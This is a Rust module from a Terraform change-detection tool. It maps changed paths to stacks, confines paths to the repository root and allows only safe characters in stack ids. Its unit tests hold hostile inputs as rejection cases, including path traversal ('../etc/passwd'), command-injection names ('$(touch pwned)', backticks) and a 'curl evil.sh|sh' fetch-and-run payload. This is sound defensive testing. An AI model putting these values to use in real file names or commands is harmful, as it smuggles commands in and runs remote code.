//! Changed paths → the stacks they touch (docs/DESIGN.md §1, §2).
//!
//! Pure: the file tree is asked through [`StackTree`] (an in-memory map in
//! tests, the filesystem in `repo.rs`). A changed `*.tfvars` matching the
//! include globs is a stack; a changed companion file (by file-name glob)
//! changes the stack whose directory holds it; a deleted tfvars with no
//! replacement in its directory is a destroy stack. Paths that leave the
//! repository root are rejected, never followed, and a stack's path must be
//! a safe stack id ([`check_stack_path`]).

use std::collections::BTreeMap;

use crate::config::model::StackGlobs;
use crate::error::Error;
use crate::stack::StackAction;

/// How a file changed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileStatus {
    /// Added, modified, or the new side of a rename.
    Modified,
    /// Deleted, or the old side of a rename.
    Deleted,
}

/// One changed file, relative to the config root.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChangedFile {
    pub path: String,
    pub status: FileStatus,
}

impl ChangedFile {
    pub fn modified(path: impl Into<String>) -> ChangedFile {
        ChangedFile {
            path: path.into(),
            status: FileStatus::Modified,
        }
    }

    pub fn deleted(path: impl Into<String>) -> ChangedFile {
        ChangedFile {
            path: path.into(),
            status: FileStatus::Deleted,
        }
    }
}

/// Read-only questions about the current tree.
pub trait StackTree {
    /// File names of the `*.tfvars` files in directory `dir` (relative,
    /// `/`-separated; `""` is the root), in any order.
    fn tfvars_in(&self, dir: &str) -> Vec<String>;
}

/// A stack a change touches, before its tfvars is read.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct StackRef {
    pub id: String,
    /// Path of the tfvars relative to the config root.
    pub tfvars: String,
    pub action: StackAction,
}

/// Checks that `path` is a clean relative path inside the root and returns
/// it `/`-separated without `./` parts.
pub fn confine(path: &str) -> Result<String, Error> {
    let unified = path.replace('\\', "/");
    if unified.starts_with('/') || unified.contains('\0') || unified.split('/').any(|c| c == "..") {
        return Err(Error::input(format!(
            "{path}: path escapes the repository root"
        )));
    }
    let clean: Vec<&str> = unified
        .split('/')
        .filter(|c| !c.is_empty() && *c != ".")
        .collect();
    if clean.is_empty() {
        return Err(Error::input(format!("`{path}`: not a file path")));
    }
    Ok(clean.join("/"))
}

/// Whether `component` is `[A-Za-z0-9][A-Za-z0-9._-]*`.
fn is_safe_component(component: &str) -> bool {
    let mut chars = component.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphanumeric())
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

/// docs/DESIGN.md §4: a stack id is its directory path, and it travels everywhere:
/// state keys, `TF_DATA_DIR` names, comments, annotations, commit messages,
/// policy input. So every component of a stack's path (its directories and
/// its tfvars file name) must match `[A-Za-z0-9][A-Za-z0-9._-]*`: no
/// spaces, `$`, backticks, quotes, newlines or `..`. The path is quoted in
/// the message (`{:?}`), so a newline in it cannot forge a second line.
pub fn check_stack_path(path: &str) -> Result<(), Error> {
    match path.split('/').find(|c| !is_safe_component(c)) {
        None => Ok(()),
        Some(part) => Err(Error::input(format!(
            "{path:?}: not a safe stack path: {part:?} must match [A-Za-z0-9][A-Za-z0-9._-]* \
             (letters, digits, `.`, `_`, `-`; no spaces, quotes, `$`, backticks or newlines)"
        ))),
    }
}

fn split_dir(path: &str) -> (&str, &str) {
    match path.rsplit_once('/') {
        Some((dir, file)) => (dir, file),
        None => ("", path),
    }
}

/// Whether `path` (relative) is a stack tfvars by the config's globs.
pub fn is_stack_tfvars(path: &str, globs: &StackGlobs) -> bool {
    path.ends_with(".tfvars") && globs.include.is_match(path) && !globs.exclude.is_match(path)
}

/// The tfvars of the stack in `dir`, among `names`: the first of
/// [`var_files_in_order`] (the one named in messages and deleted to destroy
/// the stack); `None` when there is none.
pub fn pick_tfvars(
    dir: &str,
    names: Vec<String>,
    globs: &StackGlobs,
) -> Result<Option<String>, Error> {
    Ok(var_files_in_order(dir, names, globs)?.into_iter().next())
}

/// The tfvars files of the stack in `dir`, among `names`, in the order
/// terraform reads them (pure). Without `stacks.var_files` a stack has
/// one: a second tfvars is an input error naming both, never silently
/// ignored. With it, files are ordered by the first glob they match, then
/// by name, and a tfvars matching none is an input error.
pub fn var_files_in_order(
    dir: &str,
    mut names: Vec<String>,
    globs: &StackGlobs,
) -> Result<Vec<String>, Error> {
    names.sort();
    let Some(var_files) = &globs.var_files else {
        if names.len() > 1 {
            return Err(Error::input(format!(
                "{dir}: several tfvars files ({}): a stack has one tfvars, and terraform would \
                 read only it; merge them, or say how they combine in stacks.var_files",
                names.join(", ")
            )));
        }
        return Ok(names);
    };
    let mut ranked = Vec::with_capacity(names.len());
    for name in names {
        match var_files.rank(&name) {
            Some(rank) => ranked.push((rank, name)),
            None => {
                return Err(Error::input(format!(
                    "{dir}/{name}: matches none of stacks.var_files ({}), so terraform would \
                     not read it; rename it or list it there",
                    var_files.patterns.join(", ")
                )))
            }
        }
    }
    ranked.sort();
    Ok(ranked.into_iter().map(|(_, name)| name).collect())
}

/// Maps changed files to the stacks they touch, sorted by id.
pub fn stacks_from_changes(
    changes: &[ChangedFile],
    globs: &StackGlobs,
    tree: &dyn StackTree,
) -> Result<Vec<StackRef>, Error> {
    // dir → (touched, a deleted tfvars path if any)
    let mut touched: BTreeMap<String, Option<String>> = BTreeMap::new();
    for change in changes {
        let path = confine(&change.path)?;
        let (dir, file) = split_dir(&path);
        if is_stack_tfvars(&path, globs) {
            let entry = touched.entry(dir.to_string()).or_default();
            if change.status == FileStatus::Deleted {
                entry.get_or_insert(path.clone());
            }
        } else if globs.companions.is_match(file) && !dir.is_empty() {
            touched.entry(dir.to_string()).or_default();
        }
    }

    let mut stacks = Vec::new();
    for (dir, deleted) in touched {
        if dir.is_empty() {
            return Err(Error::input(
                "a tfvars at the config root is not a stack: stacks are directories (SERVICE/NAME/NAME.tfvars)",
            ));
        }
        let present: Vec<String> = tree
            .tfvars_in(&dir)
            .into_iter()
            .filter(|name| is_stack_tfvars(&format!("{dir}/{name}"), globs))
            .collect();
        if present.is_empty() && deleted.is_none() {
            // A companion changed in a directory that is not a stack.
            continue;
        }
        // Before the directory reaches any other message.
        check_stack_path(&dir)?;
        match (pick_tfvars(&dir, present, globs)?, deleted) {
            (Some(name), _) => {
                let tfvars = format!("{dir}/{name}");
                check_stack_path(&tfvars)?;
                stacks.push(StackRef {
                    tfvars,
                    id: dir,
                    action: StackAction::Plan,
                });
            }
            (None, Some(deleted_path)) => {
                check_stack_path(&deleted_path)?;
                stacks.push(StackRef {
                    id: dir,
                    tfvars: deleted_path,
                    action: StackAction::Destroy,
                });
            }
            // Not reached: directories without a tfvars were skipped.
            (None, None) => {}
        }
    }
    Ok(stacks)
}

/// Every stack of a tree listing (`--all`), from the relative paths of all
/// files; sorted by id.
pub fn all_stacks(paths: &[String], globs: &StackGlobs) -> Result<Vec<StackRef>, Error> {
    let mut stacks = Vec::new();
    for (dir, names) in stack_dirs(paths, globs) {
        check_stack_path(dir)?;
        if let Some(name) = pick_tfvars(dir, names, globs)? {
            let tfvars = format!("{dir}/{name}");
            check_stack_path(&tfvars)?;
            stacks.push(StackRef {
                id: dir.to_string(),
                tfvars,
                action: StackAction::Plan,
            });
        }
    }
    Ok(stacks)
}

/// Every stack of a tree listing that is a valid stack, sorted by id: what
/// the stacks of a change are checked against (no two share a state). A
/// directory that is not one (several tfvars, an unsafe path) is skipped:
/// it is refused when a change selects it, and must not fail every other
/// change meanwhile.
/// Only directories `keep` accepts are looked at (a cheap pre-filter on a
/// large estate).
pub fn estate_stacks(
    paths: &[String],
    globs: &StackGlobs,
    keep: &dyn Fn(&str) -> bool,
) -> Vec<StackRef> {
    let kept: Vec<String> = paths
        .iter()
        .filter(|p| keep(split_dir(p).0))
        .cloned()
        .collect();
    stack_dirs(&kept, globs)
        .into_iter()
        .filter_map(|(dir, names)| {
            let name = pick_tfvars(dir, names, globs).ok().flatten()?;
            let tfvars = format!("{dir}/{name}");
            check_stack_path(&tfvars).ok()?;
            Some(StackRef {
                id: dir.to_string(),
                tfvars,
                action: StackAction::Plan,
            })
        })
        .collect()
}

/// Directory → names of its stack tfvars, for the directories below the
/// root that hold one.
fn stack_dirs<'p>(paths: &'p [String], globs: &StackGlobs) -> BTreeMap<&'p str, Vec<String>> {
    let mut by_dir: BTreeMap<&str, Vec<String>> = BTreeMap::new();
    for path in paths {
        if is_stack_tfvars(path, globs) {
            let (dir, file) = split_dir(path);
            if !dir.is_empty() {
                by_dir.entry(dir).or_default().push(file.to_string());
            }
        }
    }
    by_dir
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;
    use std::path::Path;

    use super::*;

    struct Tree(BTreeSet<String>);

    impl StackTree for Tree {
        fn tfvars_in(&self, dir: &str) -> Vec<String> {
            self.0
                .iter()
                .filter_map(|p| {
                    let (d, f) = split_dir(p);
                    (d == dir && f.ends_with(".tfvars")).then(|| f.to_string())
                })
                .collect()
        }
    }

    fn tree(paths: &[&str]) -> Tree {
        Tree(paths.iter().map(std::string::ToString::to_string).collect())
    }

    fn globs(yaml: &str) -> StackGlobs {
        crate::config::parse(yaml, Path::new("/r/tfctl.yaml"))
            .unwrap()
            .stacks
    }

    #[test]
    fn tfvars_and_companion_changes_map_to_stacks() {
        let t = tree(&[
            "S3/lake/lake.tfvars",
            "S3/lake/lake.json",
            "KMS/key/key.tfvars",
        ]);
        let changes = [
            ChangedFile::modified("S3/lake/lake.json"),
            ChangedFile::modified("KMS/key/key.tfvars"),
            ChangedFile::modified("README.md"),
        ];
        let got = stacks_from_changes(&changes, &globs(""), &t).unwrap();
        let ids: Vec<_> = got.iter().map(|s| (s.id.as_str(), s.action)).collect();
        assert_eq!(
            ids,
            vec![
                ("KMS/key", StackAction::Plan),
                ("S3/lake", StackAction::Plan)
            ]
        );
        assert_eq!(got[1].tfvars, "S3/lake/lake.tfvars");
    }

    #[test]
    fn deleted_tfvars_is_a_destroy_unless_replaced() {
        let t = tree(&["S3/b/b.tfvars"]);
        let changes = [
            ChangedFile::deleted("S3/a/a.tfvars"),
            ChangedFile::deleted("S3/b/old.tfvars"),
            ChangedFile::modified("S3/b/b.tfvars"),
        ];
        let got = stacks_from_changes(&changes, &globs(""), &t).unwrap();
        assert_eq!(
            got,
            vec![
                StackRef {
                    id: "S3/a".into(),
                    tfvars: "S3/a/a.tfvars".into(),
                    action: StackAction::Destroy
                },
                StackRef {
                    id: "S3/b".into(),
                    tfvars: "S3/b/b.tfvars".into(),
                    action: StackAction::Plan
                },
            ]
        );
    }

    #[test]
    fn excluded_and_non_stack_files_are_ignored() {
        let t = tree(&["modules/s3/x.tfvars", "docs/a.json"]);
        let changes = [
            ChangedFile::modified("modules/s3/x.tfvars"),
            ChangedFile::modified("docs/a.json"),
        ];
        let got = stacks_from_changes(&changes, &globs("stacks:\n  exclude: ['modules/**']\n"), &t)
            .unwrap();
        assert!(got.is_empty(), "{got:?}");
    }

    #[test]
    fn escaping_paths_are_rejected() {
        for bad in ["../etc/passwd", "/etc/passwd", "S3/../../x.tfvars"] {
            let err = stacks_from_changes(&[ChangedFile::modified(bad)], &globs(""), &tree(&[]))
                .unwrap_err();
            assert!(
                err.message.contains("escapes the repository root"),
                "{bad}: {}",
                err.message
            );
        }
        assert_eq!(confine("./S3//a/a.tfvars").unwrap(), "S3/a/a.tfvars");
    }

    #[test]
    fn ambiguous_tfvars_is_an_input_error() {
        let t = tree(&["S3/a/x.tfvars", "S3/a/y.tfvars"]);
        let err = stacks_from_changes(&[ChangedFile::modified("S3/a/x.tfvars")], &globs(""), &t)
            .unwrap_err();
        assert!(
            err.message
                .starts_with("S3/a: several tfvars files (x.tfvars, y.tfvars)"),
            "{}",
            err.message
        );
    }

    #[test]
    fn stack_paths_are_limited_to_a_safe_character_set() {
        for ok in [
            "S3/data-lake-prod/data-lake-prod.tfvars",
            "team_a/S3/v1.2/x.tfvars",
        ] {
            check_stack_path(ok).unwrap();
        }
        for (bad, part) in [
            ("S3/x$(touch pwned)", "x$(touch pwned)"),
            ("S3/a b", "a b"),
            ("S3/`id`", "`id`"),
            ("S3/it's", "it's"),
            ("S3/.hidden", ".hidden"),
            ("S3/-rf", "-rf"),
            ("S3/a\nb", "a\nb"),
            ("S3/caf\u{e9}", "caf\u{e9}"),
            ("S3/a/x y.tfvars", "x y.tfvars"),
        ] {
            let err = check_stack_path(bad).unwrap_err();
            assert_eq!(err.exit_status(), crate::ExitStatus::BadInput);
            assert!(
                err.message.starts_with(&format!(
                    "{bad:?}: not a safe stack path: {part:?} must match"
                )),
                "{}",
                err.message
            );
            assert!(!err.message.contains('\n'), "{}", err.message);
        }
    }

    #[test]
    fn unsafe_stack_directories_are_refused_wherever_stacks_are_found() {
        let dir = "S3/x$(curl evil.sh|sh)";
        let t = tree(&[
            &format!("{dir}/a.tfvars"),
            "S3/ok/ok.tfvars",
            "docs/my notes/a.json",
        ]);
        let err = stacks_from_changes(
            &[ChangedFile::modified(format!("{dir}/a.tfvars"))],
            &globs(""),
            &t,
        )
        .unwrap_err();
        assert!(
            err.message.starts_with(&format!("{dir:?}: not a safe")),
            "{}",
            err.message
        );
        // A deleted one too, and a companion of it.
        for change in [
            ChangedFile::deleted(format!("{dir}/a.tfvars")),
            ChangedFile::modified(format!("{dir}/a.json")),
        ] {
            stacks_from_changes(&[change], &globs(""), &t).unwrap_err();
        }
        // A companion in a directory that is no stack is not a stack path.
        let got = stacks_from_changes(
            &[ChangedFile::modified("docs/my notes/a.json")],
            &globs(""),
            &t,
        )
        .unwrap();
        assert!(got.is_empty());
        let paths = [format!("{dir}/a.tfvars"), "S3/ok/ok.tfvars".to_string()];
        let err = all_stacks(&paths, &globs("")).unwrap_err();
        assert!(
            err.message.starts_with(&format!("{dir:?}: not a safe")),
            "{}",
            err.message
        );
    }

    #[test]
    fn the_estate_skips_directories_that_are_not_valid_stacks() {
        let paths: Vec<String> = [
            "S3/a/a.tfvars",
            "S3/two/x.tfvars",
            "S3/two/y.tfvars",
            "S3/b c/b.tfvars",
            "IAM/r/r.tfvars",
        ]
        .map(String::from)
        .to_vec();
        let got = estate_stacks(&paths, &globs(""), &|_| true);
        let ids: Vec<_> = got.iter().map(|s| s.id.as_str()).collect();
        assert_eq!(ids, vec!["IAM/r", "S3/a"]);
        assert!(all_stacks(&paths, &globs("")).is_err());
        let got = estate_stacks(&paths, &globs(""), &|dir| dir.starts_with("S3/"));
        assert_eq!(got.len(), 1);
    }

    #[test]
    fn all_stacks_lists_every_stack_dir() {
        let paths: Vec<String> = [
            "S3/a/a.tfvars",
            "S3/a/a.json",
            "IAM/r/r.tfvars",
            "top.tfvars",
        ]
        .map(String::from)
        .to_vec();
        let got = all_stacks(&paths, &globs("")).unwrap();
        let ids: Vec<_> = got.iter().map(|s| s.id.as_str()).collect();
        assert_eq!(ids, vec!["IAM/r", "S3/a"]);
    }

    #[test]
    fn a_second_tfvars_is_refused_unless_var_files_orders_them() {
        let names = || vec!["lake.tfvars".to_string(), "override.tfvars".to_string()];
        let err = var_files_in_order("S3/lake", names(), &globs("")).unwrap_err();
        assert_eq!(err.exit_status(), crate::ExitStatus::BadInput);
        assert!(
            err.message
                .starts_with("S3/lake: several tfvars files (lake.tfvars, override.tfvars)"),
            "{}",
            err.message
        );
        let ordered =
            globs("stacks:\n  var_files: [\"common.tfvars\", \"*.tfvars\", \"override.tfvars\"]\n");
        let mut with_common = names();
        with_common.push("common.tfvars".into());
        assert_eq!(
            var_files_in_order("S3/lake", with_common, &ordered).unwrap(),
            ["common.tfvars", "lake.tfvars", "override.tfvars"]
        );
        let strict = globs("stacks:\n  var_files: [\"lake.tfvars\"]\n");
        let err = var_files_in_order("S3/lake", names(), &strict).unwrap_err();
        assert!(
            err.message.starts_with(
                "S3/lake/override.tfvars: matches none of stacks.var_files (lake.tfvars)"
            ),
            "{}",
            err.message
        );
    }
}
